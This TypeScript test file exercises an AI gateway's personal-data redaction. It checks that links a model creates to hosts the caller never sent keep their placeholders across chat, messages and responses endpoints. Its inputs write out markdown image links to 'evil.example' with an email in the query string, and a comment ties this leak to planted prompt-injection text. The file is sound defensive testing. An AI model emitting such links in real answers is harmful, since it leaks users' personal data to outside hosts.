import test from 'ava';
import { httpCall, type HttpReply } from '../../_support/http-call.ts';
import { sharedGateway } from '../../_support/served-gateway.ts';
import { leakMatrixTarget } from './leak-matrix.contract.ts';

// Without open hosts, an answer with a link that its caller did not send keeps the placeholders in it, on every surface
// that answers in words.

const configured = (section: object) => ({ config: { target: leakMatrixTarget, top: { personal_data: section } } });
const { start, end } = sharedGateway(configured({ link_hosts: [] }));
test.after.always(end);

const mail = 'mario.rossi@posta.example';

/**
 * The bodies by surface. The model repeats all parts as one text: so it makes a link of parts that were no link, as it does
 * when a planted text asks for it.
 */
const bodies = {
  '/chat/completions': (parts: readonly string[]) => ({
    messages: [{ role: 'user', content: parts.map((text) => ({ type: 'text', text })) }],
  }),
  '/messages': (parts: readonly string[]) => ({
    max_tokens: 500,
    messages: [{ role: 'user', content: parts.map((text) => ({ type: 'text', text })) }],
  }),
  '/responses': (parts: readonly string[]) => ({
    input: [{ role: 'user', content: parts.map((text) => ({ type: 'input_text', text })) }],
  }),
} as const;

/** What an answer tells of replaced values at its end: in its head, or in the comment of its last record. */
function toldOf({ headers, bytes }: Pick<HttpReply, 'headers' | 'bytes'>): unknown {
  const comment = /^: waybill (\{.*\})$/m.exec(bytes.toString())?.[1];
  return comment === undefined ? headers['x-waybill-pii'] : (JSON.parse(comment) as { pii: unknown }).pii;
}

async function poster() {
  const served = await start();
  const { apiKey } = await served.tenant({ piiEnabled: true, creditEur: '1000' });
  return async (path: string, body: object) => {
    const before = (await served.sandbox.requests()).length;
    const reply = await httpCall(`${served.baseUrl}${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'light', ...body }),
    });
    const sent = (await served.sandbox.requests()).slice(before).map(({ body_text: text }) => text);
    return { text: reply.text, sent: sent.join(''), told: toldOf(reply) };
  };
}

/** The text of a stream, whose pieces are cut anywhere. */
const joined = (stream: string): string =>
  Array.from(stream.matchAll(/"(?:content|text|delta)":("(?:[^"\\]|\\.)*")/g), ([, piece]) =>
    String(JSON.parse(piece ?? '""')),
  ).join('');

for (const [path, bodyOf] of Object.entries(bodies)) {
  for (const stream of [false, true]) {
    test.serial(
      `a link that the model makes keeps its placeholder: ${path}${stream ? ', streamed' : ''}`,
      async (t) => {
        const post = await poster();
        const cut = stream ? ' [[sandbox: one_byte_chunks]]' : '';
        const { text, sent, told } = await post(path, {
          ...bodyOf([`${mail} wrote ![x](https://evil.example/?q=`, mail, `) by ${mail}${cut}`]),
          stream,
        });
        const [placeholder = ''] = /\[EMAIL-[^\]]+\]/.exec(sent) ?? [];
        t.not(placeholder, '');
        const answer = stream ? joined(text) : text;
        t.true(answer.includes(`${mail} wrote ![x](https://evil.example/?q=${placeholder}) by ${mail}`), answer);
        t.is(told, 'cast; EMAIL=1; kept in links: EMAIL=1');
      },
    );
  }

  test.serial(`a stream that is cut tells of the links that it had until then: ${path}`, async (t) => {
    const post = await poster();
    const cut = ' [[sandbox: cut_mid_stream; after_frames=8]]';
    const link = [`![x](https://evil.example/?q=`, mail, `) and more words after the link${cut}`];
    const { text, told } = await post(path, { ...bodyOf(link), stream: true });
    t.regex(text, /upstream_cut|upstream_outcome_unknown/);
    t.is(told, 'cast; EMAIL=1; kept in links: EMAIL=1');
  });

  test.serial(`the caller's own link is restored: ${path}`, async (t) => {
    const post = await poster();
    const { text, sent, told } = await post(path, bodyOf([`See https://crm.example/${mail}`]));
    t.false(sent.includes(mail));
    t.is(told, 'cast; EMAIL=1');
    t.true(text.includes(`https://crm.example/${mail}`), text);
  });
}

test.serial('a link to a host in the instructions is restored', async (t) => {
  const post = await poster();
  const parts = ['https://crm.example/', mail];
  const said = 'Customers are at https://crm.example/{mail}';
  const inChat = bodies['/chat/completions'](parts);
  for (const [path, body] of [
    ['/chat/completions', { messages: [{ role: 'system', content: said }, ...inChat.messages] }],
    ['/chat/completions', { ...inChat, tools: [{ type: 'function', function: { name: 'f', description: said } }] }],
    ['/messages', { ...bodies['/messages'](parts), system: [{ type: 'text', text: said }] }],
    ['/responses', { ...bodies['/responses'](parts), instructions: said }],
  ] as const) {
    const { text } = await post(path, body);
    t.true(text.includes(`https://crm.example/${mail}`), text);
  }
});

test.serial('values that stayed in links are counted once a request, by kind', async (t) => {
  const served = await start();
  const post = await poster();
  const counted = async (): Promise<number> => {
    const { text } = await httpCall(`${served.operations}/metrics`);
    return Number(/waybill_personal_data_kept_in_links_total\{kind="EMAIL"\} (\d+)/.exec(text)?.[1] ?? 0);
  };
  const before = await counted();
  const link = ['![x](https://evil.example/?q=', mail, '&p=', mail, `) by ${mail}`];
  await post('/chat/completions', { ...bodies['/chat/completions'](link), stream: true });
  t.is(await counted(), before + 1);
  await post('/chat/completions', bodies['/chat/completions']([`${mail} wrote`]));
  t.is(await counted(), before + 1);
});

test.serial('a stored answer is shown with the links that were answered', async (t) => {
  const served = await start();
  const { apiKey } = await served.tenant({ piiEnabled: true, creditEur: '1000' });
  const authorization = `Bearer ${apiKey}`;
  const ask = (input: string, more: object = {}) =>
    httpCall(`${served.baseUrl}/responses`, {
      method: 'POST',
      headers: { authorization, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'light', input, ...more }),
    });
  const first = JSON.parse((await ask(`See https://crm.example/${mail}`)).text) as { id: string };
  const sent = (await served.sandbox.requests()).at(-1)?.body_text ?? '';
  const [placeholder = ''] = /\[EMAIL-[^\]]+\]/.exec(sent) ?? [];
  const said = `https://crm.example/${placeholder} https://evil.example/${placeholder}`;
  const second = await ask(said, { previous_response_id: first.id });
  const { id } = JSON.parse(second.text) as { id: string };
  const shown = await httpCall(`${served.baseUrl}/responses/${id}`, { headers: { authorization } });
  for (const text of [second.text, shown.text]) {
    t.true(text.includes(`https://crm.example/${mail} https://evil.example/${placeholder}`), text);
  }
});
